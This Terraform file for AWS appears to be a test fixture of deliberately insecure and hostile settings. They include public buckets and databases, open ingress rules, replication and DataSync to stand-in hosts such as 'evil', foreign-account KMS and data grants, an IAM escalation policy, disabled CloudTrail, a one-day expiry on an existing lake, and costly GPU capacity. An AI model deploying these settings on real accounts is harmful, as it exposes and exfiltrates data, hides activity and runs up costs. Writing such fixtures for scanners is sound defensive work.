terraform {
  required_providers {
    aws = { source = "hashicorp/aws" }
  }
}
provider "aws" {
  region = "us-east-1"
  default_tags {
    tags = { Team = "a", Project = "a", CostCenter = "a", Environment = "a", Owner = "a", ManagedBy = "terraform" }
  }
}
locals { other = "999999999999" }
resource "aws_s3_bucket" "b" { bucket = "lake-x" }
resource "aws_s3_bucket_website_configuration" "w" {
  bucket = "lake-x"
  index_document { suffix = "index.html" }
}
resource "aws_s3_bucket_public_access_block" "p" { bucket = "lake-x" }
resource "aws_s3_bucket_acl" "a" {
  bucket = "lake-x"
  acl    = "public-read"
}
resource "aws_s3_bucket_policy" "org" {
  bucket = "lake-x"
  policy = jsonencode({ Statement = [{ Effect = "Allow", Principal = "*", Action = "s3:GetObject", Resource = "arn:aws:s3:::lake-x/*", Condition = { Bool = { "aws:SecureTransport" = "true" } } }] })
}
resource "aws_s3_access_point" "ap" {
  bucket = "lake-x"
  name   = "ap"
  public_access_block_configuration {
    block_public_acls       = false
    block_public_policy     = false
    ignore_public_acls      = false
    restrict_public_buckets = false
  }
}
resource "aws_s3_object" "o" {
  bucket  = "lake-x"
  key     = "k"
  content = "x"
  acl     = "public-read"
}
resource "aws_db_instance" "db" {
  allocated_storage   = 10
  engine              = "postgres"
  instance_class      = "db.t3.micro"
  username            = "u"
  password            = "ppppppppp"
  publicly_accessible = true
  skip_final_snapshot = true
}
resource "aws_lb" "lb" {
  name    = "lb"
  subnets = ["subnet-1", "subnet-2"]
}
resource "aws_sagemaker_notebook_instance" "n" {
  name          = "n"
  role_arn      = "arn:aws:iam::123456789012:role/x"
  instance_type = "ml.t3.medium"
}
resource "aws_subnet" "s" {
  vpc_id                  = "vpc-1"
  cidr_block              = "10.0.0.0/24"
  map_public_ip_on_launch = true
}
resource "aws_route" "r" {
  route_table_id         = "rtb-1"
  destination_cidr_block = "0.0.0.0/0"
  gateway_id             = "igw-1"
}
resource "aws_route_table" "rt" {
  vpc_id = "vpc-1"
  route {
    cidr_block = "0.0.0.0/0"
    gateway_id = "igw-12"
  }
}
resource "aws_ec2_managed_prefix_list" "pl" {
  name           = "pl"
  address_family = "IPv4"
  max_entries    = 2
  entry { cidr = "0.0.0.0/0" }
}
resource "aws_vpc_security_group_ingress_rule" "v6" {
  security_group_id = "sg-1"
  cidr_ipv6         = "::/0"
  ip_protocol       = "tcp"
  from_port         = 22
  to_port           = 22
}
resource "aws_default_security_group" "d" {
  vpc_id = "vpc-1"
  ingress {
    protocol    = "-1"
    from_port   = 0
    to_port     = 0
    cidr_blocks = ["0.0.0.0/0"]
  }
}
resource "aws_vpc_endpoint" "e" {
  vpc_id       = "vpc-1"
  service_name = "com.amazonaws.us-east-1.s3"
  policy       = jsonencode({ Statement = [{ Effect = "Allow", Principal = "*", Action = "*", Resource = "*" }] })
}
resource "aws_s3_bucket_replication_configuration" "rep" {
  bucket = "lake-x"
  role   = "arn:aws:iam::123456789012:role/x"
  rule {
    status = "Enabled"
    destination {
      bucket  = "arn:aws:s3:::evil"
      account = local.other
      access_control_translation { owner = "Destination" }
    }
  }
}
resource "aws_ecr_replication_configuration" "ecr" {
  replication_configuration {
    rule {
      destination {
        region      = "us-east-1"
        registry_id = local.other
      }
    }
  }
}
resource "aws_cloudwatch_log_subscription_filter" "l" {
  name            = "l"
  log_group_name  = "g"
  filter_pattern  = ""
  destination_arn = "arn:aws:logs:us-east-1:999999999999:destination:x"
}
resource "aws_ram_resource_share" "ram" {
  name                      = "x"
  allow_external_principals = true
}
resource "aws_ram_principal_association" "ram" {
  principal          = local.other
  resource_share_arn = "arn:aws:ram:us-east-1:123456789012:resource-share/x"
}
resource "aws_ami_launch_permission" "ami" {
  image_id   = "ami-1"
  account_id = local.other
}
resource "aws_lakeformation_permissions" "lf" {
  principal   = local.other
  permissions = ["SELECT"]
  table {
    database_name = "d"
    name          = "t"
  }
}
resource "aws_vpc_peering_connection" "peer" {
  vpc_id        = "vpc-1"
  peer_vpc_id   = "vpc-2"
  peer_owner_id = local.other
}
resource "aws_ec2_transit_gateway_vpc_attachment" "tgw" {
  subnet_ids         = ["subnet-1"]
  transit_gateway_id = "tgw-1"
  vpc_id             = "vpc-1"
}
resource "aws_cloudwatch_event_permission" "ev" {
  principal    = local.other
  statement_id = "x"
}
resource "aws_lambda_layer_version_permission" "layer" {
  layer_name     = "l"
  version_number = 1
  principal      = "*"
  action         = "lambda:GetLayerVersion"
  statement_id   = "x"
}
resource "aws_datasync_location_object_storage" "ds" {
  agent_arns      = ["arn:aws:datasync:us-east-1:123456789012:agent/agent-0123456789abcdef0"]
  server_hostname = "evil.example.com"
  bucket_name     = "xxxx"
}
resource "aws_iam_openid_connect_provider" "oidc" {
  url            = "https://evil.example.com"
  client_id_list = ["sts.amazonaws.com"]
}
resource "aws_iam_role" "fed" {
  name               = "fed"
  assume_role_policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "sts:AssumeRoleWithWebIdentity", Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }, Condition = { StringLike = { "token.actions.githubusercontent.com:sub" = "repo:*" } } }] })
}
resource "aws_iam_role_policy" "esc" {
  name   = "esc"
  role   = "existing"
  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = ["iam:Put*"], Resource = "arn:aws:iam::123456789012:role/*" }] })
}
resource "aws_ssoadmin_account_assignment" "sso" {
  instance_arn       = "arn:aws:sso:::instance/ssoins-1234567890abcdef"
  permission_set_arn = "arn:aws:sso:::permissionSet/ssoins-1234567890abcdef/ps-1234567890abcdef"
  principal_id       = "11111111-2222-3333-4444-555555555555"
  principal_type     = "GROUP"
  target_id          = "123456789012"
  target_type        = "AWS_ACCOUNT"
}
resource "aws_cloudtrail" "ct" {
  name           = "trail"
  s3_bucket_name = "x"
  enable_logging = false
}
resource "aws_sagemaker_domain" "dom" {
  domain_name = "d"
  auth_mode   = "IAM"
  vpc_id      = "vpc-1"
  subnet_ids  = ["subnet-1"]
  default_user_settings { execution_role = "arn:aws:iam::123456789012:role/x" }
}
resource "aws_s3_bucket_lifecycle_configuration" "lc" {
  bucket = "existing-lake"
  rule {
    id     = "x"
    status = "Enabled"
    filter {}
    expiration { days = 1 }
  }
}
resource "aws_kms_grant" "g" {
  key_id            = "1234abcd-12ab-34cd-56ef-1234567890ab"
  grantee_principal = "arn:aws:iam::999999999999:role/x"
  operations        = ["Decrypt"]
}
resource "aws_lambda_permission" "lp" {
  function_name = "f"
  action        = "lambda:InvokeFunction"
  principal     = local.other
}
resource "aws_sns_topic" "t" {
  name   = "t"
  policy = jsonencode({ Statement = [{ Effect = "Allow", Principal = { AWS = "999999999999" }, Action = "sns:Publish", Resource = "*" }] })
}
resource "aws_ec2_capacity_reservation" "cr" {
  instance_type     = "p5.48xlarge"
  instance_platform = "Linux/UNIX"
  availability_zone = "us-east-1a"
  instance_count    = 4
}
resource "aws_elasticache_replication_group" "ec" {
  replication_group_id = "x"
  description          = "x"
  node_type            = "cache.t3.micro"
}
resource "aws_efs_file_system" "fs" {
}
resource "aws_ebs_volume" "vol" {
  availability_zone = "us-east-1a"
  size              = 10
}
resource "aws_opensearch_domain" "os" { domain_name = "xxxx" }
resource "aws_api_gateway_rest_api" "api" { name = "x" }
resource "aws_transfer_server" "ts" {}
resource "aws_instance" "i" {
  ami                         = "ami-1"
  instance_type               = "g4dn.xlarge"
  associate_public_ip_address = true
}
resource "aws_autoscaling_group" "asg" {
  name               = "x"
  min_size           = 4
  max_size           = 4
  availability_zones = ["us-east-1a"]
  mixed_instances_policy {
    launch_template {
      launch_template_specification { launch_template_id = "lt-0123456789abcdef0" }
      override { instance_type = "p5.48xlarge" }
    }
  }
}
